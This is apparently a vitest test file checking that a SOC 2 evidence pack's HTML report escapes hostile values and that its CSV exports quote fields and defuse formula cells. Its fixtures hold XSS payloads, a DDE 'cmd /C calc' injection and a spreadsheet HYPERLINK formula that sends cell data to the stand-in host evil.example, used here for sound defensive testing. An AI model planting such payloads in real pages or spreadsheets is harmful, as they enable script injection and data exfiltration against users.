/**
 * The pack's reports with hostile values everywhere a credential, a person or a problem message can
 * put text: report.html escapes all of it (inert, no external asset, prints), the CSVs quote per
 * RFC 4180 and defuse formula cells, evidence.json carries the values as they are.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_RULES, evaluateControls } from '../../src/evidence/controls.js';
import { framework } from '../../src/evidence/frameworks.js';
import type { CollectedEvidence } from '../../src/evidence/model.js';
import { writeReports } from '../../src/evidence/report.js';
import { escapeHtml, html, renderReport } from '../../src/evidence/report-html.js';
import { parseCsv } from '../../src/util/csv.js';

const XSS = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(2)>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function hostile(): CollectedEvidence {
  const id = `aws/111/access-key/${IMG}`;
  return {
    framework: 'soc2',
    period: { from: '2026-03-01T00:00:00.000Z', to: '2026-03-31T23:59:59.999Z' },
    generatedAt: '2026-04-01T00:00:00.000Z',
    chain: {
      chainId: 'c'.repeat(64),
      hashAlgorithm: 'hmac-sha256',
      headSeq: 9,
      headHash: 'a'.repeat(64),
      fromSeq: 2,
      toSeq: 8,
      sliceLastHash: 'b'.repeat(64),
      eventsRead: 9,
    },
    population: [
      {
        id,
        kind: 'aws-access-key',
        sourceType: 'aws',
        source: '111',
        principal: FORMULA,
        agent: XSS,
        owner: `+cmd|' /C calc'!A0, "team" <${XSS}>`,
        unregisteredAgent: false,
        created: '2026-01-01T00:00:00.000Z',
        firstSeen: null,
        lastUsed: null,
        removedAt: null,
        status: '-2+3',
      },
    ],
    findings: [
      {
        fingerprint: `p:${id}`,
        policy: 'p',
        policies: ['p'],
        controls: { p: { soc2: ['CC6.2'] } },
        credentialId: id,
        agentId: XSS,
        severity: 'medium',
        message: `@SUM(1+1)\nline two, "quoted"`,
        episodes: [
          {
            start: '2026-03-02T00:00:00.000Z',
            how: 'opened',
            end: null,
            endedBy: null,
            severity: 'medium',
            suppressions: [{ from: '2026-03-03T00:00:00.000Z', to: null, exceptionId: XSS }],
          },
        ],
        stateAtEnd: 'suppressed',
      },
    ],
    actions: [],
    exceptions: [
      {
        id: XSS,
        source: 'api',
        owner: IMG,
        reason: `${XSS} because`,
        expires: '2026-05-01T00:00:00.000Z',
        createdAt: '2026-03-01T00:00:00.000Z',
        createdBy: `user:${XSS}`,
        lifted: null,
        expiredAt: null,
        selector: { policies: ['p'] },
        suppressed: [`p:${id}`],
      },
    ],
    coverage: {
      scans: [
        {
          id: `scan-${XSS}`,
          trigger: 'test',
          startedAt: '2026-03-02T00:00:00.000Z',
          finishedAt: '2026-03-02T00:01:00.000Z',
          status: 'partial',
          units: [
            {
              key: 'aws/111',
              status: 'partial',
              problems: [{ code: 'AccessDenied', message: IMG, scope: 'aws/111/' }],
            },
          ],
        },
      ],
      units: [
        {
          key: 'aws/111',
          label: XSS,
          sourceType: 'aws',
          configured: true,
          scans: 1,
          completeScans: 0,
          lastComplete: null,
          largestGapHours: 744,
          reasons: [`AccessDenied: ${IMG}`],
        },
      ],
    },
    drills: [
      {
        id: `drill-${IMG}`,
        scenario: 'admin-key',
        trigger: 'schedule',
        by: FORMULA,
        target: 'aws 111',
        startedAt: '2026-03-03T00:00:00.000Z',
        finishedAt: '2026-03-03T00:10:00.000Z',
        event: { seq: 8, time: '2026-03-03T00:10:00.000Z' },
        status: 'failed',
        stage: 'alert',
        reason: XSS,
        times: { detectMs: 42_000, alertMs: null, remediateMs: null, approvalMs: null },
        detection: { policy: 'p', at: '2026-03-03T00:01:00.000Z' },
        alert: null,
        remediation: null,
        planted: [{ kind: 'aws-access-key', id: 'AKIA1', credentialId: id }],
        cleanup: { removed: ['AKIA1'], gone: [], failed: [{ id: `u-${IMG}`, error: XSS }] },
      },
    ],
  };
}

const policies = [{ name: 'p', resource: { kinds: ['aws-access-key'] }, metadata: { controls: { soc2: ['CC6.2'] } } }];

describe('report.html', () => {
  it('escapes every value: hostile tags come out as text', () => {
    const ev = hostile();
    const fw = framework('soc2');
    const controls = evaluateControls(fw, ev, policies);
    const page = renderReport({
      fw,
      ev,
      controls,
      version: '0.1.0',
      configHash: 'f'.repeat(64),
      checkpoint: { seq: 9, time: ev.generatedAt },
    });
    expect(page).not.toMatch(/<script/i);
    expect(page).not.toMatch(/<img/i);
    expect(page).not.toMatch(/<[^>]*onerror/i);
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('&quot;&gt;&lt;img src=x onerror=alert(2)&gt;');
    // The control with the coverage gap names it, escaped.
    expect(page).toContain('coverage gap: aws/111 (&lt;script&gt;');
    // Self-contained: only the report's own elements, links within the page, no asset, no script.
    const tags = [...page.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)\b([^>]*)>/g)];
    const ALLOWED =
      'html head meta title style body header h1 h2 h3 p strong section table thead tbody tr th td a span dl dt dd ul li code';
    expect([...new Set(tags.map((t) => t[1]!.toLowerCase()))].filter((t) => !ALLOWED.split(' ').includes(t))).toEqual(
      [],
    );
    expect(tags.filter((t) => /\b(src|srcset|action|on\w+)=/i.test(t[2]!))).toEqual([]);
    expect(
      tags.flatMap((t) => [...t[2]!.matchAll(/href="([^"]*)"/g)].map((m) => m[1]!)).every((h) => h.startsWith('#')),
    ).toBe(true);
    expect(page).not.toMatch(/@import|url\(/i);
    expect(page).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`,
    );
    expect(page).toContain('@media print');
    expect(page).toContain('@page');
    expect(page).toContain('HMAC-SHA256');
  });

  it('the html tag escapes interpolations, never the markup it built', () => {
    expect(escapeHtml(`<a href='x'>&"\``)).toBe('&lt;a href=&#39;x&#39;&gt;&amp;&quot;&#96;');
    const inner = html`<b>${XSS}</b>`;
    expect(html`<p>${inner}${[XSS, inner]}${null}</p>`.text).toBe(
      '<p><b>&lt;script&gt;alert(1)&lt;/script&gt;</b>&lt;script&gt;alert(1)&lt;/script&gt;<b>&lt;script&gt;alert(1)&lt;/script&gt;</b></p>',
    );
  });
});

describe('CSV and JSON', () => {
  it('RFC 4180 quoting, formula cells defused with a leading quote, JSON as is', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cw-report-'));
    const ev = hostile();
    const fw = framework('soc2');
    const controls = evaluateControls(fw, ev, policies);
    const files = await writeReports(dir, {
      fw,
      ev,
      controls,
      rules: DEFAULT_RULES,
      version: '0.1.0',
      configHash: 'f'.repeat(64),
      checkpoint: null,
    });
    expect(files).toEqual([
      'report.html',
      'evidence.json',
      'population.csv',
      'findings.csv',
      'actions.csv',
      'controls.csv',
      'coverage.csv',
      'coverage-units.csv',
      'drills.csv',
    ]);
    const text = readFileSync(join(dir, 'population.csv'), 'utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, row] = parseCsv(text);
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('principal')).toBe(`'${FORMULA}`);
    expect(cell('owner')).toBe(`'+cmd|' /C calc'!A0, "team" <${XSS}>`);
    expect(cell('status')).toBe("'-2+3");
    expect(cell('id')).toBe(`aws/111/access-key/${IMG}`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);

    const [fh, frow] = parseCsv(readFileSync(join(dir, 'findings.csv'), 'utf8'));
    expect(frow![fh!.indexOf('message')]).toBe(`'@SUM(1+1)\nline two, "quoted"`);
    expect(frow![fh!.indexOf('controls')]).toBe('CC6.2');
    expect(frow![fh!.indexOf('state_at_end')]).toBe('suppressed');

    const [ch, ...crows] = parseCsv(readFileSync(join(dir, 'controls.csv'), 'utf8'));
    expect(crows.map((r) => [r[ch!.indexOf('control')], r[ch!.indexOf('status')]])).toEqual([
      ['CC6.1', 'not-evidenced'],
      ['CC6.2', 'not-evidenced'],
      ['CC6.3', 'not-evidenced'],
      ['CC7.2', 'not-evidenced'],
    ]);

    const [dh, drow] = parseCsv(readFileSync(join(dir, 'drills.csv'), 'utf8'));
    expect(drow![dh!.indexOf('reason')]).toBe(XSS);
    expect(drow![dh!.indexOf('started_by')]).toBe(`'${FORMULA}`);
    expect(drow![dh!.indexOf('cleanup_failed')]).toBe(`u-${IMG}: ${XSS}`);
    expect(drow![dh!.indexOf('controls')]).toBe('CC7.2');

    const json = JSON.parse(readFileSync(join(dir, 'evidence.json'), 'utf8'));
    expect(json.population[0].principal).toBe(FORMULA);
    expect(json.controls.map((c: { id: string }) => c.id)).toEqual(['CC6.1', 'CC6.2', 'CC6.3', 'CC7.2']);
    expect(json.summary).toMatchObject({ population: 1, findings: 1, controls: { 'not-evidenced': 4 } });
    expect(json.chain.hashAlgorithm).toBe('hmac-sha256');
  });
});
